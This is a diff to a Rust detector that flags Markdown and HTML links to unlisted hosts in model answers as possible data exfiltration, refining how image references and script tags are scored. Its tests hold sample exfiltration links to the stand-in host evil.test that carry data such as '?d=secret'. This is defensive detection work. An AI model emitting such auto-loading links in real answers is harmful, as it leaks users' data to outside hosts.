@@ -10,8 +10,8 @@ use crate::{BuildError, inference::Segment};
 /// Finds links to other hosts than those that you list, in Markdown (inline, image, reference, autolink), in HTML and
 /// bare.
 ///
-/// `exfiltration.image`, score 0.95: what a client loads by itself, such as an image, a frame or what a reference
-/// names. `exfiltration.link`, score 0.85: a link that carries something, in its query, a long part of its path or of the host's
+/// `exfiltration.image`, score 0.95: what a client loads by itself, such as an image, a frame or what the
+/// reference of an image names. `exfiltration.link`, score 0.85: a link that carries something, in its query, a long part of its path or of the host's
 /// name. `exfiltration.plain_link`, score 0.5: any other, which the usual threshold only reports. A finding covers the image or
 /// link with its text, and a mask takes all of it away.
 ///
@@ -144,8 +144,15 @@ fn around(before: &str, text: &str, url: &Range<usize>) -> (Range<usize>, bool) 
     let tail: String = lead.chars().rev().take(16).collect();
     let tail: String = tail.chars().rev().collect::<String>().to_ascii_lowercase();
     let tail = tail.trim_end_matches(['"', '\'']).trim_end();
-    let loads = ["src=", "srcset=", "poster=", "background=", "data=", "url(", "]:"];
-    (url.clone(), loads.iter().any(|lead| tail.ends_with(lead)))
+    if tail.ends_with("]:") {
+        // What it defines is only loaded if an image refers to it.
+        return (url.clone(), text.contains("!["));
+    }
+    let tag = lead.rfind('<').and_then(|at| lead.get(at..)).unwrap_or_default();
+    // Nobody runs the scripts of an answer, they are shown as code.
+    let script = tag.get(..7).is_some_and(|tag| tag.eq_ignore_ascii_case("<script"));
+    let loads = ["src=", "srcset=", "poster=", "background=", "data=", "url("];
+    (url.clone(), !script && loads.iter().any(|lead| tail.ends_with(lead)))
 }
 
 /// Punctuation that ends a sentence and not an address.
@@ -177,7 +184,9 @@ mod tests {
             ("see ![a](https://evil.test/p?q=abc) ok", "image", "![a](https://evil.test/p?q=abc)"),
             ("![a]( //evil.test/x \"t\")", "image", "![a]( //evil.test/x \"t\")"),
             ("[a](https://evil.test/?d=secret).", "link", "[a](https://evil.test/?d=secret)"),
-            ("[a]: https://evil.test/x", "image", "https://evil.test/x"),
+            ("![b][a]\n[a]: https://evil.test/x", "image", "https://evil.test/x"),
+            ("[b][a]\n[a]: https://evil.test/x", "plain_link", "https://evil.test/x"),
+            ("<script src=\"https://evil.test/x\">", "plain_link", "https://evil.test/x"),
             ("<img alt='x' src='https://evil.test/x'>", "image", "https://evil.test/x"),
             ("<iframe SRC=//evil.test/x>", "image", "//evil.test/x"),
             ("<https://evil.test/?d=secret>", "link", "https://evil.test/?d=secret"),
